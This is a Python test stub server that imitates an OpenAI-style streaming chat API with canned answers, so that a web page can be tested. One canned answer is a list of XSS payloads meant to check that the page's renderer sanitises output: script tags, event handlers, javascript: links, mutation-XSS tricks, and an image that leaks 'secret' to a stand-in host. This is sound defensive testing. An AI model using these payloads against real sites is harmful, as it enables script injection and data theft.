"""A server that plays the API in front of the page: canned answers, canned live numbers, one thread.

Which answer is streamed is told by a word of the last message: see `ANSWERS` and `_deltas`. Run as a script, it
serves http://127.0.0.1:8123 for a look at the page.
"""

import asyncio
import json
import math
import re
import sys
import threading
import time
from collections.abc import AsyncIterator, Iterator
from typing import Any

import uvicorn
from fastapi import Depends, FastAPI, Header, HTTPException, Request
from fastapi.responses import JSONResponse, Response, StreamingResponse

from headrace.serve.page import router

Json = dict[str, Any]

CODE = '''Merging is the second half of **merge sort**: walk both lists at once and take the smaller head.

```python
def merge(left: list[int], right: list[int]) -> list[int]:
    """One sorted list out of two."""
    merged, i, j = [], 0, 0
    while i < len(left) and j < len(right):
        if left[i] <= right[j]:  # `<=` keeps equal items in order
            merged.append(left[i])
            i += 1
        else:
            merged.append(right[j])
            j += 1
    return merged + left[i:] + right[j:]
```

1. Each step looks at **two** items, so the cost is `O(n + m)`.
2. What is left of one list is already in order:
   - it is added in one piece,
   - without being compared.

| Case | Comparisons | Extra memory |
|:--|--:|:--:|
| one list empty | 0 | `n` |
| taking turns | n + m - 1 | `n + m` |

> See also [heapq.merge](https://docs.python.org/3/library/heapq.html), which does the same for many streams.
'''
ATTACKS = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">

<svg onload="window.hacked = 3"><iframe srcdoc="<script>parent.hacked = 4</script>"></iframe>

[a link](javascript:window.hacked=5) and [another](JaVaScRiPt:window.hacked=6)
and [data](data:text/html,<script>1</script>)

![picture](http://elsewhere.invalid/leak?said=secret) ![p](//elsewhere.invalid/leak "onerror=window.hacked=7")

<a href="http://elsewhere.invalid" onclick="window.hacked = 8">x</a> <style>@import "http://elsewhere.invalid/s"</style>
<form action="http://elsewhere.invalid"><input name=q><button>go</button></form>
<link rel=stylesheet href=http://elsewhere.invalid/c><base href=http://elsewhere.invalid/>
<meta http-equiv=refresh content=0>

```html" onmouseover="window.hacked=9
<img src=x onerror=window.hacked=10>
```

```html
<img src=x onerror="window.hacked = 11"><script>window.hacked = 12</script>
```

`<b onclick=window.hacked=13>`
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=14&gt;">

[def]: javascript:window.hacked=15
[used][def]

The end of it.
"""
ANSWERS = {
    "code": CODE,
    "attack": ATTACKS,
    "slow": "word " * 2000,
    "paragraphs": "\n\n".join(f"Paragraph {i} says a little about the matter at hand." for i in range(60)),
}
THOUGHT = "The reader wants a short answer. First, what is a headrace? A channel."
SHORT = "A **headrace** is the channel that brings water to a mill wheel or turbine. It is kept smooth and steady."


class Stub:
    """The server, on a free port of this machine.

    received    bodies of the chat requests      cancelled   ids of cancelled requests
    closed      streams that the other side left  refuse     headers of the one 429 that comes next
    """

    def __init__(self, *, port: int = 0, key: str = "", admin: str = "", pace: float = 0.002):
        self.key, self.admin, self.pace = key, admin, pace
        self.forget()
        config = uvicorn.Config(self._app(), port=port, log_level="error", ws="none", lifespan="off")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    def forget(self) -> None:
        """Begins anew, for the next test."""
        self.received: list[Json] = []
        self.cancelled: list[str] = []
        self.closed = 0
        self.refuse: Json | None = None

    def __enter__(self) -> "Stub":
        self.thread.start()
        while not self.server.started:
            time.sleep(0.01)
        port = self.server.servers[0].sockets[0].getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"
        return self

    def __exit__(self, *_: object) -> None:
        self.server.should_exit = self.server.force_exit = True
        self.thread.join(10)

    def _app(self) -> FastAPI:
        app = FastAPI()
        app.include_router(router)
        app.add_exception_handler(401, lambda _, refused: fault(401, refused.detail))
        for method, path, answer, guards in (
            ("GET", "/health/ready", self._ready, []),
            ("GET", "/v1/models", self._models, [Depends(self._client)]),
            ("POST", "/v1/chat/completions", self._chat, [Depends(self._client)]),
            ("GET", "/debug/live", self._live, [Depends(self._admin)]),
            ("POST", "/debug/requests/{id}/cancel", self._cancel, [Depends(self._admin)]),
        ):
            app.add_api_route(path, answer, methods=[method], dependencies=guards, response_model=None)
        return app

    def _client(self, authorization: str = Header("")) -> None:
        if self.key and authorization != f"Bearer {self.key}":
            raise HTTPException(401, "no key was given")

    def _admin(self, authorization: str = Header("")) -> None:
        if self.admin and authorization != f"Bearer {self.admin}":
            raise HTTPException(401, "no admin key was given")

    async def _ready(self) -> Json:
        return {}

    async def _models(self) -> Json:
        return {"object": "list", "data": [{"id": "smollm2-135m", "object": "model"}]}

    async def _chat(self, request: Request) -> Response:
        body = await request.json()
        self.received.append(body)
        if self.refuse is not None:
            refusal, self.refuse = self.refuse, None
            return fault(429, "the line is full", refusal)
        return StreamingResponse(self._stream(body), media_type="text/event-stream")

    async def _live(self, every: float = 1.0) -> Response:
        async def feed() -> AsyncIterator[str]:
            for moment in range(-240, 1):  # some past, so that the charts have a shape at once
                yield f"data: {json.dumps(snapshot(time.time() + moment, self.cancelled))}\n\n"
            while True:
                await asyncio.sleep(every / 4)
                yield f"data: {json.dumps(snapshot(time.time(), self.cancelled))}\n\n"

        return StreamingResponse(feed(), media_type="text/event-stream")

    async def _cancel(self, id: str) -> Json:
        self.cancelled.append(id)
        return {"id": id}

    async def _stream(self, body: Json) -> AsyncIterator[str]:
        asked = str(body["messages"][-1]["content"])
        done = False
        try:
            for count, delta in enumerate(_deltas(body["messages"], asked)):
                if "error" in asked and count == 5:
                    yield 'data: {"error": {"message": "the engine fell over", "code": 500}}\n\n'
                    return
                choice = {"index": 0, "delta": delta, "finish_reason": None}
                yield f"data: {json.dumps({'id': 'chatcmpl-1', 'choices': [choice]})}\n\n"
                await asyncio.sleep(0.03 if "slow" in asked else self.pace)
            reason = "tool_calls" if "weather" in asked else "stop"
            choices = [{"index": 0, "delta": {}, "finish_reason": reason}]
            yield f"data: {json.dumps({'choices': choices})}\n\n"
            usage = {
                "prompt_tokens": 40,
                "completion_tokens": count + 1,
                "prompt_tokens_details": {"cached_tokens": 16},
            }
            yield f"data: {json.dumps({'choices': [], 'usage': usage})}\n\ndata: [DONE]\n\n"
            done = True
        finally:
            self.closed += not done


def fault(status: int, message: str, headers: Json | None = None) -> JSONResponse:
    return JSONResponse({"error": {"message": message, "code": status}}, status_code=status, headers=headers)


def _deltas(messages: list[Json], asked: str) -> Iterator[Json]:
    yield {"role": "assistant", "content": ""}
    if "think" in asked:
        for word in re.findall(r"\S+ ?", THOUGHT):
            yield {"reasoning_content": word}
    if "weather" in asked and messages[-1]["role"] == "user":
        call = {
            "index": 0,
            "id": "call_1",
            "type": "function",
            "function": {"name": "weather", "arguments": ""},
        }
        yield {"tool_calls": [call]}
        for piece in ('{"city": "Zü', 'rich", "days"', ": 3}"):
            yield {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}
        return
    text = next((answer for word, answer in ANSWERS.items() if word in asked), SHORT)
    for start in range(0, len(text), 5):
        yield {"content": text[start : start + 5]}


def snapshot(moment: float, cancelled: list[str]) -> Json:
    """What /debug/live says at a Unix time, in the form that serve/debug.py lays down."""
    wave = math.sin(moment / 17) + 0.4 * math.sin(moment / 5.1) + 0.15 * math.sin(moment * 2.3)
    running = max(1, round(6 + 3 * wave))
    rows = [row(f"chatcmpl-{i:02x}9f3a", i, running) for i in range(running + int(wave > 1) * 2)]

    def shares(middle: float) -> Json:
        return {
            "count": 40,
            "p50": middle,
            "p90": middle * (1.5 + 0.2 * wave),
            "p99": middle * (2.4 + 0.6 * wave),
        }

    return {
        "time": moment, "uptime": 3735.0, "version": "0.1.0", "model": "smollm2-135m", "ready": True,
        "requests": {
            "running": running, "waiting": max(0, round(3 * wave - 2)),
            "finished": 1204, "cancelled": 3, "failed": 0, "refused": 5,
        },
        "kv": {"blocks": 4096, "used": 900 + int(500 * wave), "usage": (900 + 500 * wave) / 4096, "block": 16},
        "prefix": {"lookups": 5120, "hits": 2100, "rate": 0.41 + 0.08 * wave},
        "tokens_per_second": {"prompt": 800 + 420 * wave, "generated": 210 + 60 * wave},
        "latency": {
            "window": 30.0, "ttft": shares(0.11 + 0.03 * wave), "itl": shares(0.0074), "queue": shares(0.004),
        },
        "step": {"rows": running, "tokens": running, "seconds": 0.012},
        "preemptions": 0, "restarts": 0, "more": 0,
        "rows": [one for one in rows if one["id"] not in cancelled],
    }  # fmt: skip


def row(id: str, number: int, running: int) -> Json:
    state = "waiting" if number >= running else "prefill" if number == running - 1 else "decode"
    return {
        "id": id, "name": "nightly-eval" if number == 1 else None, "kind": "chat", "state": state,
        "age": 1.2 + 3.7 * number, "queue": 0.01, "ttft": 0.08 if state == "decode" else None,
        "prompt_tokens": 40 + 700 * number, "cached_tokens": 16 * number, "max_tokens": 200,
        "generated": 17 * number if state == "decode" else 0, "tokens_per_second": 21.4 if state == "decode" else None,
    }  # fmt: skip


if __name__ == "__main__":
    with Stub(port=8123, key=sys.argv[1] if len(sys.argv) > 1 else "", pace=0.02) as stub:
        stub.thread.join()
